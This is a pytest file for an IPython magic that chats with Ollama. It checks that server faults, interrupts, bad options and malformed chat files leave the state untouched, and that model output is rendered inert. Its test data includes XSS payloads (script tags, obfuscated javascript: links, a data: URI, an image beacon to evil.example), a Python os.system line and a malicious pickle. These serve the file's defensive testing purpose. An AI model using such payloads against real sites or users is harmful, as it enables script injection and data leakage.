"""Reliability and security: faults, interrupts, bad input, hostile output, secrets, files.

Every failure must leave the conversation exactly as it was and the kernel
usable; every bad input must be one clear line (a `UsageError`) that changes
nothing; nothing the model says may become live HTML; no secret may leak.
The store's own invariants under random operation sequences are in
`test_reliability_store.py`.
"""

from __future__ import annotations

import json
import os
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from IPython.core.error import UsageError

from conftest import interrupt_main_after, magics_of, run
from ollama_magic import persist, testing
from hostile import PAYLOADS, violations
from ollama_magic import render
from ollama_magic.render import NotebookView, TerminalView
from ollama_magic.store import ConversationStore, Event

SECRET = "sk-test-5ecret-value-42"


# -- helpers -------------------------------------------------------------------
def store_of(ip: Any) -> ConversationStore:
    return magics_of(ip).store


def state(store: ConversationStore) -> str:
    """Everything that defines the store, byte for byte: chats, active chat, undo depths."""
    depths = {name: store.undo_depth(name) for name in store.names}
    return json.dumps([persist.dump(store), depths], ensure_ascii=False)


def users(body: dict[str, Any]) -> list[str]:
    return [m.get("content", "") for m in body["messages"] if m["role"] == "user"]


def one_line_usage_error(result: Any) -> str:
    err = result.error_in_exec or result.error_before_exec
    assert type(err) is UsageError, repr(err)
    msg = str(err)
    assert msg and "\n" not in msg, msg
    assert "Traceback" not in msg
    return msg


def wait_for(predicate: Callable[[], bool], timeout: float = 3.0) -> bool:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.01)
    return True


@pytest.fixture
def events(shell: Any) -> Iterator[list[Event]]:
    seen: list[Event] = []
    unsubscribe = store_of(shell).subscribe(seen.append)
    yield seen
    unsubscribe()


# -- 2. faults from the server --------------------------------------------------
def _set(srv: Any, **attrs: Any) -> None:
    for key, value in attrs.items():
        setattr(srv, key, value)


FAULTS: list[tuple[str, dict[str, Any], str]] = [
    ("refused", {}, "Cannot reach Ollama"),
    ("http_404", {}, "not installed"),
    ("http_500", {"status": 500}, "answered HTTP 500"),
    ("timeout_before_first_token", {"first_token_delay": 3.0}, "did not answer within 0.5 s"),
    ("stall_mid_stream", {"stall_after": 3, "stall_seconds": 3.0}, "did not answer within 0.5 s"),
    ("error_line_mid_stream", {"error_after": 3}, "error mid-reply"),
    ("cut_mid_line", {"drop_after": 3}, "dropped mid-reply"),
    ("non_json_line", {"garbage_line": True}, "not JSON"),
    ("empty_200_body", {"empty_body": True}, "ended before it was complete"),
    ("no_done", {"no_done": True}, "ended before it was complete"),
]


@pytest.mark.parametrize("no_stream", [False, True], ids=["stream", "no-stream"])
@pytest.mark.parametrize("name,attrs,message", FAULTS, ids=[f[0] for f in FAULTS])
def test_fault_leaves_store_exactly_as_before(shell, ollama_server, monkeypatch, events, name, attrs, message,
                                              no_stream):
    if no_stream:  # one JSON document instead of a stream: some faults look different
        message = {"stall_mid_stream": "did not answer", "error_line_mid_stream": "HTTP 500",
                   "empty_200_body": "not JSON"}.get(name, message)
    shell.run_line_magic("config", "OllamaMagics.timeout = 0.5")
    run(shell, "%%ollama --system 'Be brief.'\nkept question", cell_id="a")
    run(shell, "%%ollama\nsecond kept", cell_id="b")
    store = store_of(shell)
    before = state(store)
    events.clear()
    _set(ollama_server, **attrs)
    if name == "refused":
        monkeypatch.setenv("OLLAMA_HOST", "http://127.0.0.1:9")  # nothing listens on discard
    flags = " --no-stream" if no_stream else ""
    model = " -m llama9" if name == "http_404" else ""
    # A re-run of cell "a" would rewind; failing, it must not even do that.
    res = run(shell, f"%%ollama{flags}{model}\nfailing question", cell_id="a")
    msg = one_line_usage_error(res)
    assert message in msg
    assert state(store) == before
    assert events == []  # not even a transient change
    # The kernel is usable and the next request has no trace of the failure.
    monkeypatch.setenv("OLLAMA_HOST", ollama_server.host)
    ollama_server.reset()
    assert run(shell, "%%ollama\nnext question", cell_id="c").success
    body = ollama_server.last_chat()
    assert users(body) == ["kept question", "second kept", "next question"]
    assert "failing" not in json.dumps(body)
    assert body["model"] == "llama3.2"


def test_stall_past_timeout_closes_the_socket(shell, ollama_server):
    shell.run_line_magic("config", "OllamaMagics.timeout = 0.3")
    ollama_server.stall_after, ollama_server.stall_seconds = 2, 3.0
    t0 = time.monotonic()
    res = run(shell, "%%ollama\nhello")
    assert time.monotonic() - t0 < 2.0
    one_line_usage_error(res)
    assert wait_for(lambda: ollama_server.disconnects == 1)


def _big_reply_seconds(ip: Any, srv: Any, size: int, unit: str) -> float:
    # ~100-byte tokens: one streamed chunk each, like a model's (long) tokens.
    srv.reply = unit * (size // len(unit))
    t0 = time.perf_counter()
    assert run(ip, "%%ollama --once\nsay a lot").success
    elapsed = time.perf_counter() - t0
    assert magics_of(ip).last_reply == srv.reply
    return elapsed


PLAIN_UNIT = "x" * 99 + " "
MARKUP_UNIT = "a<b&c`d`" * 12 + "[l](u)\n"  # every line needs escaping, spans and a link


@pytest.mark.parametrize("kind,unit", [("terminal", PLAIN_UNIT), ("notebook", PLAIN_UNIT), ("notebook", MARKUP_UNIT)],
                         ids=["terminal", "notebook", "notebook-markup"])
def test_2mb_reply_streams_in_linear_time(request, ollama_server, kind, unit):
    ip = request.getfixturevalue("shell" if kind == "terminal" else "nb_shell")
    if kind == "terminal":
        capsys = request.getfixturevalue("capsys")
    _big_reply_seconds(ip, ollama_server, 20_000, unit)  # warm up
    small = min(_big_reply_seconds(ip, ollama_server, 200_000, unit) for _ in range(2))
    big = _big_reply_seconds(ip, ollama_server, 2_000_000, unit)
    if kind == "terminal":
        out = capsys.readouterr().out
        assert out.count("x" * 99) >= 20_000  # printed as it came, once
    assert big / small < 30, (small, big)


class _SplitWrites:
    """Write every HTTP chunk as two, split inside a multi-byte character."""

    def __init__(self, original: Callable[..., None]) -> None:
        self.original = original

    def __call__(self, handler: Any, data: bytes) -> None:
        cut = next((i for i in range(1, len(data)) if (data[i] & 0xC0) == 0x80), len(data) // 2)
        for part in (data[:cut], data[cut:]):
            if part:
                handler.wfile.write(handler._encode_chunk(part))
                handler.wfile.flush()
                time.sleep(0.001)  # separate TCP segments


UNICODE_REPLY = "Grüße 👩‍👩‍👧‍👦 漢字かな交じり文 e\u0301 🇯🇵 \U0001F600x \u200d \ufeffend"


@pytest.mark.parametrize("no_stream", [False, True], ids=["stream", "no-stream"])
def test_unicode_split_across_chunks_is_stored_exactly(shell, ollama_server, monkeypatch, no_stream):
    original = testing._Handler._write_chunk
    split = _SplitWrites(original)
    monkeypatch.setattr(testing._Handler, "_write_chunk", lambda self, data: split(self, data))
    ollama_server.reply = UNICODE_REPLY
    assert run(shell, "%%ollama" + (" --no-stream" if no_stream else "") + "\nunicode please 漢字").success
    turn = store_of(shell).active.turns[-1]
    assert turn.reply["content"] == UNICODE_REPLY
    assert turn.user["content"] == "unicode please 漢字"
    ollama_server.reply = None
    run(shell, "%%ollama\nagain")
    assert ollama_server.last_chat()["messages"][1]["content"] == UNICODE_REPLY


# -- 3. interrupts ---------------------------------------------------------------
def _kernel_still_works(ip: Any, srv: Any, expect_users: list[str]) -> None:
    srv.reset()
    assert run(ip, "%%ollama\nafter the interrupt").success
    assert users(srv.last_chat()) == expect_users + ["after the interrupt"]


def test_interrupt_before_the_request(shell, ollama_server, monkeypatch, events):
    run(shell, "%%ollama\nkept")
    store = store_of(shell)
    before = state(store)
    events.clear()
    n = len(ollama_server.chat_requests())
    magics = magics_of(shell)

    def interrupted_client() -> Any:
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(magics, "client", interrupted_client)
        res = run(shell, "%%ollama\nnever sent")
    assert isinstance(res.error_in_exec, KeyboardInterrupt)
    assert len(ollama_server.chat_requests()) == n
    assert state(store) == before and events == []
    _kernel_still_works(shell, ollama_server, ["kept"])


def test_interrupt_before_the_request_does_not_leave_a_placeholder(nb_shell, ollama_server, monkeypatch):
    magics = magics_of(nb_shell)

    def interrupted_client() -> Any:
        raise KeyboardInterrupt

    monkeypatch.setattr(magics, "client", interrupted_client)
    res = run(nb_shell, "%%ollama\nnever sent")
    assert isinstance(res.error_in_exec, KeyboardInterrupt)
    shown = [m for m in nb_shell.display_pub.messages if "data" in m]
    # Either nothing was shown, or the placeholder was replaced by a final word.
    assert not shown or "interrupted" in nb_shell.display_pub.last_html


def test_interrupt_at_begin_stores_nothing(shell, ollama_server, monkeypatch, capsys, events):
    run(shell, "%%ollama\nkept")
    store = store_of(shell)
    before = state(store)
    events.clear()

    def begin(self: Any, reply: Any) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(TerminalView, "begin", begin)
        res = run(shell, "%%ollama\nnever sent")
    assert isinstance(res.error_in_exec, KeyboardInterrupt)
    assert state(store) == before and events == []
    assert "nothing stored" in capsys.readouterr().out
    _kernel_still_works(shell, ollama_server, ["kept"])


def test_interrupt_before_first_token(shell, ollama_server, capsys, events):
    run(shell, "%%ollama\nkept")
    store = store_of(shell)
    before = state(store)
    events.clear()
    ollama_server.first_token_delay = 5.0
    timer = interrupt_main_after(0.3)
    t0 = time.monotonic()
    res = run(shell, "%%ollama\nslow to start")
    timer.join()
    assert time.monotonic() - t0 < 3
    assert isinstance(res.error_in_exec, KeyboardInterrupt)
    assert state(store) == before and events == []
    assert "nothing stored" in capsys.readouterr().out
    assert wait_for(lambda: ollama_server.disconnects == 1)  # the socket was closed
    _kernel_still_works(shell, ollama_server, ["kept"])


def test_interrupt_mid_thinking_keeps_the_thinking_marked(shell, ollama_server, capsys):
    run(shell, "%%ollama\nkept")
    ollama_server.token_delay = 0.02
    question = " ".join(f"w{i}" for i in range(200))
    timer = interrupt_main_after(0.4)
    res = run(shell, f"%%ollama -m qwen3 --think\n{question}")
    timer.join()
    assert isinstance(res.error_in_exec, KeyboardInterrupt)
    turns = store_of(shell).active.turns
    assert len(turns) == 2
    partial = turns[-1]
    assert partial.meta.status == "interrupted"
    assert partial.reply["content"] == ""  # no content had arrived
    assert partial.reply["thinking"].startswith("Thinking about:")
    assert 0 < len(partial.reply["thinking"].split()) < 200
    assert wait_for(lambda: ollama_server.disconnects == 1)
    ollama_server.reset()
    assert run(shell, "%%ollama\nafter the interrupt").success
    sent = ollama_server.last_chat()["messages"]
    assert [m["role"] for m in sent] == ["user", "assistant", "user", "assistant", "user"]
    assert all("thinking" not in m for m in sent)  # thinking is never resent


def test_interrupt_mid_content_in_a_notebook(nb_shell, ollama_server):
    ollama_server.token_delay = 0.02
    ollama_server.reply_tokens = 300
    timer = interrupt_main_after(0.4)
    res = run(nb_shell, "%%ollama\nlong answer please")
    timer.join()
    assert isinstance(res.error_in_exec, KeyboardInterrupt)
    (turn,) = store_of(nb_shell).active.turns
    assert turn.meta.status == "interrupted"
    words = turn.reply["content"].split()
    assert 0 < len(words) < 300
    final = nb_shell.display_pub.last_html
    assert "interrupted" in final and "▌" not in final
    assert wait_for(lambda: ollama_server.disconnects == 1)
    ollama_server.reset()
    assert run(nb_shell, "%%ollama\nnext").success
    assert ollama_server.last_chat()["messages"][1]["content"] == turn.reply["content"]


def test_interrupt_with_once_stores_nothing(shell, ollama_server):
    ollama_server.token_delay = 0.02
    ollama_server.reply_tokens = 300
    timer = interrupt_main_after(0.3)
    res = run(shell, "%%ollama --once\nside question")
    timer.join()
    assert isinstance(res.error_in_exec, KeyboardInterrupt)
    assert store_of(shell).active.turns == []
    assert wait_for(lambda: ollama_server.disconnects == 1)


def test_interrupt_during_final_rendering(nb_shell, ollama_server, monkeypatch):
    original = NotebookView.finish
    calls = []

    def finish(self: Any, footer: str, **kwargs: Any) -> None:
        calls.append(footer)
        if len(calls) == 1:
            raise KeyboardInterrupt
        original(self, footer, **kwargs)

    with monkeypatch.context() as patch:
        patch.setattr(NotebookView, "finish", finish)
        res = run(nb_shell, "%%ollama\ncomplete reply")
    assert isinstance(res.error_in_exec, KeyboardInterrupt)
    # The whole reply had arrived: it is stored as a normal turn, once.
    (turn,) = store_of(nb_shell).active.turns
    assert turn.meta.status == "ok"
    assert turn.reply["content"] == "I saw 1 messages. You said: complete reply"
    assert run(nb_shell, "%%ollama\nnext").success
    assert users(ollama_server.last_chat()) == ["complete reply", "next"]


def test_interrupt_in_a_store_listener_during_commit(shell, ollama_server):
    run(shell, "%%ollama\nkept")
    store = store_of(shell)
    before = state(store)

    def listener(event: Event) -> None:
        if event.kind == "model":
            raise KeyboardInterrupt  # Ctrl-C while the panel redraws the model field

    unsubscribe = store.subscribe(listener)
    try:
        res = run(shell, "%%ollama -m qwen3\nswitch model")
    finally:
        unsubscribe()
    assert isinstance(res.error_in_exec, KeyboardInterrupt)
    after = store.active
    # Either the whole turn (with its model) is stored, or nothing is.
    assert (after.model, len(after.turns)) in {("llama3.2", 1), ("qwen3", 2)}
    if len(after.turns) == 1:
        assert state(store) == before


# -- faults and interrupts in the middle of a tool exchange ----------------------------
TOOL_THAT_BREAKS = '''
def add(a: int, b: int) -> int:
    """Add two numbers.

    Args:
      a: the first number
      b: the second number
    """
    after_tool()  # the test's hook: break the server before the model's next request
    return a + b
'''


@pytest.mark.parametrize("what", ["http_500", "interrupt"])
def test_failure_after_a_tool_ran_stores_nothing(shell, ollama_server, events, what):
    run(shell, "%%ollama\nkept")
    timers: list[threading.Timer] = []

    def after_tool() -> None:
        if what == "http_500":
            ollama_server.status = 500
        else:
            ollama_server.first_token_delay = 5.0
            timers.append(interrupt_main_after(0.2))

    shell.user_ns["after_tool"] = after_tool
    run(shell, TOOL_THAT_BREAKS)
    store = store_of(shell)
    before = state(store)
    events.clear()
    res = run(shell, "%%ollama --tools add\nwhat is 2 plus 3")
    for timer in timers:
        timer.join()
    if what == "http_500":
        assert "HTTP 500" in one_line_usage_error(res)
    else:
        assert isinstance(res.error_in_exec, KeyboardInterrupt)
    assert len(ollama_server.chat_requests()) == 3  # kept, the tool call, the failed follow-up
    assert state(store) == before and events == []  # half a tool exchange is not a turn
    ollama_server.reset()
    assert run(shell, "%%ollama\nnext").success
    assert users(ollama_server.last_chat()) == ["kept", "next"]
    assert [m["role"] for m in ollama_server.last_chat()["messages"]] == ["user", "assistant", "user"]


# -- 5. hostile output -----------------------------------------------------------
# Everything is rendered by `safe` (markdown-it-py, raw HTML off, then nh3); these
# payloads (older ones, written against the escaping scheme that came before) and
# tests/hostile.py's corpus go through the whole magic, every frame checked.
HOSTILE = {
    "script": "Hi <script>alert(1)</script> there",
    "img_onerror": "<img src=x onerror=alert(1)>",
    "iframe": "<iframe src=https://evil.example></iframe>",
    "style": "<style>body{display:none}</style>\nstyled",
    "svg": "<svg onload=alert(1)>",
    "comment_and_anchor": "<!-- hidden --><a href=javascript:alert(1)>x</a>",
    "js_link": "[click](javascript:alert(1))",
    "js_link_case_space": "[click](  JaVaScRiPt:alert(1) )",
    "js_link_entity_tab": "[click](java&#x09;script:alert(1))",
    "js_link_entity_colon": "[click](javascript&colon;alert(1))",
    "js_link_backslash": "[click](javascript\\:alert(1))",
    "js_link_nested_label": "[a [nested] label](javascript:alert(1))",
    "js_link_multiline_label": "[two\nlines](javascript:alert(1))",
    "js_link_nested_parens": "[x](javascript:alert((1)))",
    "js_link_angle": "[x](<javascript:alert(1)>)",
    "js_ref": "[click][r]\n\n[r]: javascript:alert(1)",
    "js_ref_next_line": "[click][r]\n\n[r]:\n  java&#x0A;script:alert(1)",
    "js_ref_in_list": "- [r]: javascript:alert(1)\n\n[x][r]",
    "js_ref_in_quote": "> [r]: javascript:alert(1)\n\n[x][r]",
    "js_autolink": "<javascript:alert(1)>",
    "data_link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "image_beacon": "![pixel](https://evil.example/track?q=secret)",
    "close_our_html": "</details></summary></small><script>alert(1)</script>",
    "escaped_backtick": "\\`<script>alert(1)</script>\\`",
    "span_across_paragraphs": "`a\n\n<img src=x onerror=alert(1)>`",
    "span_after_heading": "# `x\n<script>alert(1)</script>`",
    "span_in_table": "| a | b |\n|---|---|\n| `x | <script>alert(1)</script>` |",
    "span_after_tilde": "# ~~~```<script>alert(1)</script>```",
    "span_after_url": "see https://x.example/`<script>alert(1)</script>`",
    "fence_in_list_then_html": "1. step\n   ```\n   code\n<script>alert(1)</script>",
    "fence_closed_too_deep": "```\n    ```\n```\n<script>alert(1)</script>\n```",
}
IN_CODE = {  # the hostile text ends up inside a fenced code block: shown, as code
    "unclosed_fence_then_html": "```\nunclosed\n\n</details>\n<script>alert(1)</script>",
    "unclosed_tilde_fence": "~~~~\n</small><img src=x onerror=alert(1)>",
}


def _frames(ip: Any) -> list[dict[str, str]]:
    return [m["data"] for m in ip.display_pub.messages if "data" in m]


def assert_frames_inert(ip: Any) -> None:
    """Live frames are plain text only; the final one is sanitised HTML inside our container."""
    frames = _frames(ip)
    assert len(frames) >= 2
    for data in frames[:-1]:
        assert set(data) == {"text/plain"}, data  # no markup of untrusted text while streaming
        assert "\x1b" not in data["text/plain"]
    final = frames[-1]
    assert set(final) == {"text/html", "text/plain"}
    assert violations(final["text/html"]) == [], final["text/html"]
    assert final["text/html"].startswith('<div class="ollama-magic-reply tex2jax_ignore mathjax_ignore">')


@pytest.mark.parametrize("name", [*HOSTILE, *IN_CODE, *PAYLOADS])
def test_hostile_reply_is_inert(nb_shell, ollama_server, name):
    text = HOSTILE.get(name) or IN_CODE.get(name) or PAYLOADS[name]
    ollama_server.reply = text
    ollama_server.token_delay = 0.0005
    assert run(nb_shell, "%%ollama\nsay it").success
    turn = store_of(nb_shell).active.turns[-1]
    assert turn.reply["content"] == text  # stored exactly; only the display is defused
    assert_frames_inert(nb_shell)


def test_hostile_thinking_and_tool_output_are_inert(nb_shell, ollama_server):
    # The test server's thinking echoes the question; the tool result is the model's text too.
    run(nb_shell, "def echo(text: str) -> str:\n    '''Echo.\n\n    Args:\n      text: what to echo\n    '''\n    return text")
    for name, hostile in PAYLOADS.items():
        nb_shell.display_pub.messages.clear()
        assert run(nb_shell, f"%%ollama -m qwen3 --think\n{hostile}").success, name
        assert_frames_inert(nb_shell)
        assert "<details><summary>Thinking</summary>" in _frames(nb_shell)[-1]["text/html"]
    nb_shell.display_pub.messages.clear()
    assert run(nb_shell, f"%%ollama --tools echo\n{PAYLOADS['p4_dollar_link']}").success
    assert_frames_inert(nb_shell)
    assert "1 tool call" in _frames(nb_shell)[-1]["text/html"]


def test_long_reply_live_frames_show_the_tail(nb_shell, ollama_server):
    ollama_server.reply_tokens = 3000
    ollama_server.token_delay = 0.0005  # 1.5 s of streaming: several frames
    assert run(nb_shell, "%%ollama\nlong").success
    frames = _frames(nb_shell)
    live = [f["text/plain"] for f in frames[1:-1]]
    assert live and all(len(t) < render.LIVE_TAIL + 200 for t in live)
    assert any("characters so far" in t for t in live)
    final = store_of(nb_shell).active.turns[-1].reply["content"]
    assert live[-1].rstrip(" ▌").splitlines()[-1] in final


# -- 4. bad input -------------------------------------------------------------------
BAD_CELL_LINES = {
    "unknown_option": ("--bogus", "unrecognized arguments"),
    "near_miss_option": ("--modle llama3.2", "did you mean '--model'"),
    "missing_model_value": ("-m", "expected one argument"),
    "missing_option_value": ("-o", "expected one argument"),
    "missing_chat_value": ("--chat", "expected one argument"),
    "bad_temperature": ("-t hot", "invalid float value"),
    "bad_think_level": ("--think extreme", "invalid choice"),
    "option_bad_json": ("-o stop=[oops", "looks like JSON"),
    "option_bad_json_list": ("-o 'stop=[1,]'", "looks like JSON"),
    "option_no_equals": ("-o num_ctx", "KEY=VALUE"),
    "option_empty_key": ("-o =3", "KEY=VALUE"),
    "option_dotted_key": ("-o a.b=3", "KEY=VALUE"),
    "option_digit_key": ("-o 1x=3", "KEY=VALUE"),
    "option_spaced_key": ("-o 'num ctx=3'", "KEY=VALUE"),
    "unclosed_quote": ("--system 'never closed", "quote is not closed"),
    "image_missing": ("--image /nonexistent/cat.png", "no such file or variable"),
    "image_directory": ("--image /tmp", "no such file or variable"),
    "format_missing_variable": ("--format shema", "'shema' is not defined"),
    "format_wrong_type": ("--format some_int", "expected a dict"),
    "tools_not_a_function": ("--tools some_int", "is not a function"),
    "out_not_a_name": ("--out 'a b'", "needs a variable name"),
    "chat_two_words": ("-c 'two words'", "one word"),
    "error_without_failure": ("--error", "nothing to explain"),
}


@pytest.mark.parametrize("name", list(BAD_CELL_LINES))
def test_bad_cell_options_are_one_clear_line_and_change_nothing(shell, ollama_server, events, name):
    line, message = BAD_CELL_LINES[name]
    run(shell, "%%ollama\nkept")
    shell.user_ns["some_int"] = 3
    store = store_of(shell)
    before, n = state(store), len(ollama_server.chat_requests())
    events.clear()
    res = run(shell, f"%%ollama {line}\nquestion")
    assert message in one_line_usage_error(res)
    assert state(store) == before and events == []
    assert len(ollama_server.chat_requests()) == n
    assert run(shell, "%%ollama\nstill fine").success


def test_non_image_file_is_refused(shell, ollama_server, tmp_path):
    for name, data in {"notes.txt": b"just text", "empty.png": b"", "fake.png": b"GIF8 not really"}.items():
        (tmp_path / name).write_bytes(data)
        res = run(shell, f"%%ollama --image {tmp_path / name}\nlook")
        assert "--image" in one_line_usage_error(res)
    assert ollama_server.chat_requests() == []


@pytest.mark.parametrize("body", ["", "\n\n", "   \n\t\n"], ids=["empty", "newlines", "whitespace"])
def test_empty_cell_is_refused(shell, ollama_server, body):
    res = run(shell, f"%%ollama\n{body}")
    assert "empty" in one_line_usage_error(res)
    assert ollama_server.chat_requests() == [] and store_of(shell).active.turns == []


def test_one_megabyte_cell_is_sent_whole(shell, ollama_server):
    text = ("Lorem ipsum {not_a_var} dolor sit amet, 漢字 " * 30_000)[:1_000_000].strip()
    ollama_server.reply = "ok"  # not the 1 MB echo: this is about the request
    assert run(shell, "%%ollama --once\n" + text).success
    assert ollama_server.last_chat()["messages"][-1]["content"] == text
    assert run(shell, "%%ollama\n" + text).success
    assert store_of(shell).active.turns[-1].user["content"] == text


@pytest.mark.parametrize("line", ["-m ' '", "-m ''"], ids=["blank", "empty"])
def test_blank_model_option_is_refused_or_ignored(shell, ollama_server, line):
    res = run(shell, f"%%ollama {line}\nhello")
    if res.success:  # an empty -m means "the chat's model"
        assert ollama_server.last_chat()["model"] == "llama3.2"
    else:
        one_line_usage_error(res)
    assert store_of(shell).active.model == "llama3.2"


@pytest.mark.parametrize("rest", ["", "   "], ids=["empty", "whitespace"])
def test_model_subcommand_with_no_name_only_shows(shell, ollama_server, capsys, rest):
    capsys.readouterr()
    shell.run_line_magic("ollama", "model" + rest)
    assert "llama3.2" in capsys.readouterr().out
    assert store_of(shell).active.model == "llama3.2"


@pytest.mark.parametrize("name", ["''", '"  "', "'two words'"])
def test_model_subcommand_with_blank_or_spaced_name_is_refused(shell, ollama_server, name):
    before = state(store_of(shell))
    with pytest.raises(UsageError) as info:
        shell.run_line_magic("ollama", f"model {name}")
    assert "\n" not in str(info.value)
    assert state(store_of(shell)) == before


BAD_LINE_MAGICS = {
    "unknown_subcommand": ("frobnicate", "unknown subcommand"),
    "fork_no_name": ("fork", "usage"),
    "fork_bad_at": ("fork x --at many", "--at: takes a number"),
    "fork_at_out_of_range": ("fork x --at 5", "--at must be between"),
    "fork_existing": ("fork default", "exists already"),
    "fork_unclosed_quote": ("fork 'x", "quote is not closed"),
    "options_bad": ("options =1", "KEY=VALUE"),
    "options_unclosed_quote": ("options a='b", "quote is not closed"),
    "chat_near_miss": ("chat defualt", "did you mean"),
    "save_two_paths": ("save a b", "usage"),
    "load_no_path": ("load", "usage"),
}


@pytest.mark.parametrize("name", list(BAD_LINE_MAGICS))
def test_bad_line_magic_is_one_clear_line(shell, ollama_server, name):
    line, message = BAD_LINE_MAGICS[name]
    run(shell, "%%ollama\nkept")
    before = state(store_of(shell))
    res = run(shell, f"%ollama {line}")
    assert message in one_line_usage_error(res)
    assert state(store_of(shell)) == before


@pytest.mark.parametrize("host", ["http://[::1", "http://127.0.0.1:99999", "http://127.0.0.1:abc", "::::",
                                  "ftp://127.0.0.1"])
def test_bad_host_is_one_clear_line(shell, ollama_server, monkeypatch, host):
    run(shell, "%%ollama\nkept")
    before = state(store_of(shell))
    monkeypatch.setenv("OLLAMA_HOST", host)
    msg = one_line_usage_error(run(shell, "%%ollama\nhello"))
    assert ".." not in msg
    assert one_line_usage_error(run(shell, "%ollama models"))
    assert state(store_of(shell)) == before
    monkeypatch.setenv("OLLAMA_HOST", ollama_server.host)
    assert run(shell, "%%ollama\nworks again").success


def test_non_finite_option_values_are_refused(shell, ollama_server):
    before = state(store_of(shell))
    with pytest.raises(UsageError, match="finite"):
        shell.run_line_magic("ollama", "options temperature=NaN")
    assert state(store_of(shell)) == before
    msg = one_line_usage_error(run(shell, "%%ollama -t nan\nhi"))
    assert "finite" in msg


def test_overflowing_option_values_are_refused(shell, ollama_server):
    before = state(store_of(shell))
    with pytest.raises(UsageError, match="finite"):
        shell.run_line_magic("ollama", "options mirostat_tau=1e999")
    assert state(store_of(shell)) == before


# -- 4 & 7. files ---------------------------------------------------------------------
def _valid_file(**chat: Any) -> dict[str, Any]:
    base = {"name": "x", "turns": [{"messages": [{"role": "user", "content": "q"},
                                                 {"role": "assistant", "content": "a"}]}]}
    return {"format": "ollama_magic", "version": 1, "active": "x", "chats": [{**base, **chat}]}


def _turn(*roles_and_extras: Any) -> dict[str, Any]:
    msgs = []
    for item in roles_and_extras:
        role, extra = (item, {}) if isinstance(item, str) else item
        msgs.append({"role": role, "content": "c", **extra})
    return {"messages": msgs}


def _file(**kwargs: Any) -> bytes:
    return json.dumps(_valid_file(**kwargs)).encode()


_CALL = {"tool_calls": [{"function": {"name": "f", "arguments": {}}}]}
BAD_FILES: dict[str, tuple[bytes, str]] = {
    "truncated": (_file()[:-7], "not JSON"),
    "empty": (b"", "not JSON"),
    "python_code": (b"__import__('os').system('touch /tmp/ollama_magic_pwned')\n", "not JSON"),
    "not_utf8": ('{"format": "ollama_magic", "x": "\u00e9"}'.encode("latin-1"), "not JSON"),
    "deeply_nested": (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    "wrong_version": (json.dumps({**_valid_file(), "version": 2}).encode(), "version 2"),
    "version_as_string": (json.dumps({**_valid_file(), "version": "1"}).encode(), "version '1'"),
    "version_true": (json.dumps({**_valid_file(), "version": True}).encode(), "version True"),
    "other_format": (json.dumps({"format": "something_else", "version": 1}).encode(), "not an ollama_magic chat file"),
    "a_list": (b"[1, 2, 3]", "not an ollama_magic chat file"),
    "chats_not_a_list": (json.dumps({**_valid_file(), "chats": {"x": 1}}).encode(), "not a valid chat file"),
    "missing_active": (json.dumps({k: v for k, v in _valid_file().items() if k != "active"}).encode(), "active"),
    "unknown_key": (json.dumps({**_valid_file(), "extra": 1}).encode(), "extra"),
    "spaced_chat_name": (_file(name="two words"), "name"),
    "duplicate_chats": (json.dumps({**_valid_file(), "chats": _valid_file()["chats"] * 2}).encode(), "appears twice"),
    "system_role_in_turn": (_file(turns=[_turn("system", "assistant")]), "role"),
    "one_message_turn": (_file(turns=[_turn("user")]), "not a valid chat file"),
    "two_user_messages": (_file(turns=[_turn("user", "user", "assistant")]), "tool exchange"),
    "two_replies": (_file(turns=[_turn("user", "assistant", "assistant")]), "tool exchange"),
    "tool_without_call": (_file(turns=[_turn("user", "tool", "assistant")]), "tool exchange"),
    "call_without_answer": (_file(turns=[_turn("user", ("assistant", _CALL), "assistant")]), "answered"),
    "reply_asks_for_tools": (_file(turns=[_turn("user", ("assistant", _CALL))]), "ask for tools"),
    "content_not_text": (_file(turns=[_turn("user", ("assistant", {"content": {"x": 1}}))]), "content"),
    "options_not_object": (_file(options=[1]), "options"),
}


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_bad_file_load_is_one_clear_line_and_changes_nothing(shell, ollama_server, tmp_path, events, name):
    content, message = BAD_FILES[name]
    run(shell, "%%ollama\nkept")
    store = store_of(shell)
    before = state(store)
    events.clear()
    path = tmp_path / "bad.json"
    path.write_bytes(content)
    res = run(shell, f"%ollama load {path}")
    assert message in one_line_usage_error(res)
    assert state(store) == before and events == []
    assert not Path("/tmp/ollama_magic_pwned").exists()


def test_valid_tool_exchange_file_loads(shell, ollama_server, tmp_path):
    path = tmp_path / "tools.json"
    path.write_bytes(_file(turns=[_turn("user", ("assistant", _CALL), "tool", ("assistant", _CALL), "tool", "tool",
                                        "assistant")]))
    assert run(shell, f"%ollama load {path}").success
    assert [m["role"] for m in store_of(shell).get("x").history()] == [
        "user", "assistant", "tool", "assistant", "tool", "tool", "assistant"]


def test_pickle_is_not_unpickled(shell, ollama_server, tmp_path):
    import pickle

    marker = tmp_path / "unpickled"

    class Boom:
        def __reduce__(self) -> Any:
            return (Path.touch, (marker,))

    path = tmp_path / "chats.pkl"
    path.write_bytes(pickle.dumps(Boom()))
    res = run(shell, f"%ollama load {path}")
    assert "not JSON" in one_line_usage_error(res)
    assert not marker.exists()


def test_oversized_file_is_refused(shell, ollama_server, tmp_path, monkeypatch):
    path = tmp_path / "big.json"
    path.write_bytes(_file(system="x" * 5000))
    monkeypatch.setattr(persist, "MAX_LOAD_BYTES", 1000)
    res = run(shell, f"%ollama load {path}")
    assert "over the 1,000-byte limit" in one_line_usage_error(res)
    monkeypatch.setattr(persist, "MAX_LOAD_BYTES", 1_000_000)
    assert run(shell, f"%ollama load {path}").success


@pytest.mark.parametrize("kind", ["directory", "fifo", "device", "missing"])
def test_load_of_something_that_is_not_a_file(shell, ollama_server, tmp_path, kind):
    path = {"directory": tmp_path, "fifo": tmp_path / "pipe", "device": Path("/dev/zero"),
            "missing": tmp_path / "missing.json"}[kind]
    if kind == "fifo":
        os.mkfifo(path)  # reading it would block the kernel forever
    before = state(store_of(shell))
    res = run(shell, f"%ollama load {path}")
    assert one_line_usage_error(res)
    assert state(store_of(shell)) == before


def test_unreadable_file(shell, ollama_server, tmp_path, monkeypatch):
